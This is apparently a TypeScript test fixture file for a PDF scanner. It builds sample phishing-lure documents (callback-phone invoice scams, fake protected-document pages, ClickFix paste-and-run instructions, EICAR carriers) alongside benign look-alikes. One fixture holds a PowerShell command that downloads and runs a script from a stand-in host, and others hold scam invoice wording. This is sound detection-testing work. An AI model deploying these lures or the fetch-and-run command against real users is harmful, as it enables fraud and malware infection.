// Test-only: fixtures of the social-engineering lures without links (call-back phone numbers), the
// fake "protected document", hosted-link lures and industry test signatures, one per carrier, each a
// plain short document built in code; and the benign look-alikes that must stay quiet. The phone numbers
// are fictional (NANP 555-01xx and the like), the hosts are .example names or the real services' own
// hosts with made-up ids, and the test strings are assembled in code (facts/test-signatures.ts).
import { deflateSync } from "node:zlib";
import { TEST_SIGNATURES, type TestSignatureId } from "../../facts/test-signatures";
import { buildLurePdf, prose, type LurePage } from "../../pages/testing/lure-pdf";
import { PdfBuilder, hexString } from "../../../pdf/testing/pdf-builder";
import { multiPageScanPdf } from "../../../pdf/testing/scan-pdf";
import type { TechniqueFixtures } from "./technique-fixtures";

const PAGE: [number, number, number, number] = [0, 0, 612, 792];

/** Text in WinAnsiEncoding (Annex D), as the Helvetica of these pages reads it: the euro sign is 0x80. */
const winAnsi = (s: string) => s.replaceAll("€", "\x80");

/** A one-page document of text lines (Helvetica, WinAnsi). */
const textPage =
  (lines: string[], more: Partial<LurePage> = {}) =>
  () =>
    buildLurePdf({ pages: [{ lines: lines.map(winAnsi), fontSize: 11, ...more }] });

const INVOICE_LINES = [
  "INVOICE GS-88412-US",
  "Date: March 14, 2025",
  "Thank you for your purchase of Total Tech Support (2 years).",
  "Amount charged: $399.99 - Payment method: automatic debit",
  "If you did not authorize this purchase, please call our billing department",
  "at +1 (808) 555-0142 within 24 hours to cancel and claim a refund.",
];

/**
 * A page whose text is shown with a composite font (Type0, Identity-H: two-byte glyph codes) and a
 * ToUnicode map, as office suites and browsers write it: the strings themselves are not the text.
 */
function compositeFontPage(lines: string[]): Uint8Array {
  const chars = [...new Set(lines.join(""))];
  const code = (c: string) => (chars.indexOf(c) + 3).toString(16).padStart(4, "0");
  const cmap = [
    "/CIDInit /ProcSet findresource begin 12 dict begin begincmap",
    "/CMapName /Adobe-Identity-UCS def /CMapType 2 def",
    "1 begincodespacerange <0000> <FFFF> endcodespacerange",
    `${chars.length} beginbfchar`,
    ...chars.map((c) => `<${code(c)}> <${c.charCodeAt(0).toString(16).padStart(4, "0")}>`),
    "endbfchar endcmap CMapName currentdict /CMap defineresource pop end end",
  ].join("\n");
  const b = new PdfBuilder();
  const toUnicode = b.addFlateStream("", cmap);
  const descriptor = b.add(
    "<< /Type /FontDescriptor /FontName /ABCDEF+Calibri /Flags 32 /FontBBox [-500 -300 1200 950] /ItalicAngle 0 /Ascent 750 /Descent -250 /CapHeight 630 /StemV 80 >>",
  );
  const descendant = b.add(
    `<< /Type /Font /Subtype /CIDFontType2 /BaseFont /ABCDEF+Calibri /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor ${descriptor} 0 R /CIDToGIDMap /Identity /DW 500 >>`,
  );
  const font = b.add(
    `<< /Type /Font /Subtype /Type0 /BaseFont /ABCDEF+Calibri /Encoding /Identity-H /DescendantFonts [${descendant} 0 R] /ToUnicode ${toUnicode} 0 R >>`,
  );
  const content = lines
    .map((l, i) => `BT /F1 11 Tf 72 ${720 - i * 16} Td <${[...l].map(code).join("")}> Tj ET`)
    .join("\n");
  const stream = b.addFlateStream("", content);
  b.addCatalog("", 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${stream} 0 R`);
  return b.build();
}

/** A page that is one picture (an image over the page, no text) with one link over part of it. */
function picturePageWithLink(url: string): Uint8Array {
  const b = new PdfBuilder();
  const gray = new Uint8Array(64 * 64).fill(0xd0);
  const img = b.addStream(
    "/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
    new Uint8Array(deflateSync(gray)),
  );
  const content = b.addFlateStream("", "q 560 0 0 740 26 26 cm /Im0 Do Q");
  const annot = b.add(
    `<< /Type /Annot /Subtype /Link /Rect [150 300 460 420] /Border [0 0 0] /A << /S /URI /URI ${hexString(url)} >> >>`,
  );
  b.addCatalog(
    "",
    1,
    `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`,
  );
  return b.build();
}

export const testSignature = (id: TestSignatureId) => TEST_SIGNATURES.find((s) => s.id === id)!.text;
/** `s` inside a PDF literal string: \ ( ) escaped */
const pdfLiteral = (s: string) => `(${s.replace(/[\\()]/g, (c) => `\\${c}`)})`;

/** A one-page memo with `setup` adding the carrier (objects, catalog entries) and `suffix` bytes after %%EOF. */
function memo(
  setup: (b: PdfBuilder) => { catalog?: string; content?: string } = () => ({}),
  suffix?: string,
): Uint8Array {
  const b = new PdfBuilder();
  const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
  const extra = setup(b);
  const content = b.addFlateStream(
    "",
    `BT /F1 12 Tf 72 720 Td (Scanner rollout: please check that mail scanning is active.) Tj ET\n${extra.content ?? ""}`,
  );
  b.addCatalog(extra.catalog ?? "", 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R`);
  return b.build({ suffix });
}

export const LURE_FIXTURES: TechniqueFixtures = {
  "callback-phone-lure": {
    "text-invoice": textPage(INVOICE_LINES),
    "text-subscription-renewal": textPage([
      "Norton 360 Deluxe - Subscription renewal",
      "Your subscription has been renewed automatically for another year.",
      "Renewal amount: USD 299.00, debited from your account within 24 hours.",
      "To cancel your subscription, call us toll free: 1-855-555-0187",
    ]),
    "text-german": textPage([
      "Rechnung Nr. 2025-0417",
      "Ihr Abonnement wurde automatisch verlängert.",
      "Betrag: 349,99 € (wird innerhalb von 24 Stunden abgebucht)",
      "Wenn Sie diese Zahlung nicht autorisiert haben, rufen Sie uns an:",
      "+49 30 5550 1234",
    ]),
    "text-french": textPage([
      "Facture n° 88-1204",
      "Votre abonnement a été renouvelé pour 12 mois.",
      "Montant prélevé : 289,00 €",
      "Si vous n'avez pas autorisé ce paiement, appelez le service client",
      "au 01 84 88 55 55 pour obtenir un remboursement.",
    ]),
    "text-spanish": textPage([
      "Factura 2025/3391",
      "Su suscripción ha sido renovada por un año.",
      "Importe cobrado: 199,99 €",
      "Si usted no autorizó este cargo, llame a nuestro departamento de facturación",
      "al +34 910 555 123 para solicitar un reembolso.",
    ]),
    "text-composite-font": () => compositeFontPage(INVOICE_LINES),
  },
  "fake-protected-document": {
    "text-with-link": textPage(
      ["PROTECTED DOCUMENT", "This file is protected by Microsoft Office 365.", "Click here to view the document"],
      { links: [{ url: "https://login-office365.example/auth", rect: PAGE }] },
    ),
    "image-with-link": () => picturePageWithLink("https://secure-docs-view.web.app/adobe/view.html"),
    // the fake-CAPTCHA page of 2024-2025 campaigns: its link leads to the ClickFix page
    "fake-captcha-with-link": textPage(["Security check", "Verify you are human to continue", "I'm not a robot"], {
      links: [{ url: "https://check-7731.example/verify", rect: PAGE }],
    }),
    // no link annotation at all: the "View document" button's script opens the page (a scanner of /URI sees none)
    "text-with-button-script": textPage(
      ["SECURE DOCUMENT", "This document is protected.", "Click VIEW DOCUMENT below to access your file."],
      {
        annots: [
          `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (view) /Rect [72 560 272 590] /A << /S /JavaScript /JS ${hexString('app.launchURL("https://docs-secure-view.example/auth/index.php", true);')} >> >>`,
        ],
      },
    ),
  },
  "paste-and-run-lure": {
    // the fake-CAPTCHA ClickFix page: the command is on the clipboard, put there by the attacker's site
    "text-run-dialog-paste": textPage([
      "Verify you are human",
      "Complete these verification steps:",
      "1. Press Windows Key + R",
      "2. Press CTRL + V",
      "3. Press Enter",
    ]),
    "text-powershell-cradle": textPage([
      "The document could not be displayed. To fix the font error:",
      "Press Win+R and run the following command:",
      'powershell -w hidden -c "iwr https://fonts-update.example/fix.ps1 | iex"',
    ]),
    // the macOS variant: Spotlight opens Terminal, Cmd+V pastes
    "text-terminal-paste": textPage([
      "Human verification required",
      "Press Command + Space and type Terminal",
      "Press Command + V, then Return",
    ]),
  },
  "hosted-link-lure": {
    "cloud-storage": () => picturePageWithLink("https://drive.google.com/file/d/1AbCdEfGhIjK/view?usp=sharing"),
    "site-hosting": () => picturePageWithLink("https://docs.google.com/forms/d/e/1FAIpQLSfD3x/viewform"),
    redirector: () => picturePageWithLink("https://www.google.com/url?q=https://invoice-portal.example/view&sa=D"),
    shortener: () => picturePageWithLink("https://bit.ly/3xYzAbc"),
  },
  "antivirus-test-signature": {
    attachment: () =>
      memo((b) => {
        const file = b.addFlateStream(
          "/Type /EmbeddedFile /Subtype /application#2Foctet-stream",
          testSignature("eicar"),
        );
        const spec = b.add(`<< /Type /Filespec /F (eicar.com) /UF (eicar.com) /EF << /F ${file} 0 R >> >>`);
        return { catalog: `/Names << /EmbeddedFiles << /Names [(eicar.com) ${spec} 0 R] >> >>` };
      }),
    script: () =>
      memo(() => ({
        catalog: `/OpenAction << /S /JavaScript /JS ${hexString(`var probe = "${testSignature("eicar").replace(/\\/g, "\\\\")}"; app.alert("scan check");`)} >>`,
      })),
    "content-stream": () =>
      memo(() => ({ content: `BT /F1 8 Tf 72 700 Td ${pdfLiteral(testSignature("eicar"))} Tj ET` })),
    "raw-appended": () => memo(undefined, `${testSignature("eicar")}\n`),
  },
};

/** Benign look-alikes: each must leave every rule of these techniques quiet. */
export const LURE_NEGATIVE_FIXTURES: Record<string, () => Uint8Array> = {
  "an invoice with a support phone number": textPage([
    "INVOICE 1042",
    "Web design services, March 2025",
    "Total due: $1,250.00 - Payment within 30 days by bank transfer.",
    "Questions about this invoice? Call our support team at +1 (415) 555-0199",
    "or write to billing@example.com. Thank you for your business.",
  ]),
  "an order confirmation that says how to cancel the order": textPage([
    "Order confirmation 55-1208",
    "Thank you for your order of 2 office chairs: EUR 418.00 incl. VAT.",
    "To cancel your order before it ships, contact us at 030 5550 1234.",
  ]),
  "a bank statement with its error-resolution notice": textPage([
    "Statement of account - March 2025",
    "03/02 Card purchase GROCERY STORE $54.20",
    "03/05 Direct deposit PAYROLL $2,310.00",
    "03/09 Card purchase FUEL STATION $41.75",
    "In case of errors or questions about your electronic transfers, call us at 1-800-555-0123.",
    "Tell us at once if you believe an unauthorized transfer has been made from your account.",
    "To stop payment on a check, call the same number.",
  ]),
  "a letter with a phone number and no charge": textPage([
    "Dear Ms Smith,",
    ...prose(6),
    "If you would like to discuss the offer, please call me on +44 20 7946 0958.",
    "Kind regards, John Doe",
  ]),
  "a report linking its data on Google Drive": textPage(["Survey results 2024", ...prose(14)], {
    links: [{ url: "https://drive.google.com/drive/folders/1AbCdEf", rect: [72, 120, 300, 134] }],
  }),
  "a 30-page lossless scan": () => multiPageScanPdf({ pages: 30 }),
  "an anti-virus manual naming the EICAR file without carrying it": textPage([
    "Testing your installation",
    "Download the EICAR-STANDARD-ANTIVIRUS-TEST-FILE from eicar.org to check detection.",
    ...prose(4),
  ]),
  "an IT guide: press Win+R, paste the share's path": textPage([
    "Connecting to the team share",
    "1. Copy the path \\\\fileserver01\\projects from the intranet page.",
    "2. Press Windows + R, paste it with Ctrl + V and press Enter.",
    "3. Sign in with your usual account when asked.",
  ]),
  "a developer guide's install command": textPage([
    "Installing the command-line tools",
    "Open PowerShell and run the installer:",
    'powershell -c "iwr -useb https://get.example-tools.dev/install.ps1 | iex"',
    "Then restart the terminal and check the version with tool --version.",
  ]),
  "a government form's stand-in page linking to Adobe Reader": textPage(
    [
      "Please wait...",
      "This document cannot be displayed in your PDF viewer.",
      "Click here to download the latest Adobe Reader",
    ],
    {
      links: [{ url: "https://get.adobe.com/reader/", rect: [72, 600, 400, 640] }],
    },
  ),
};
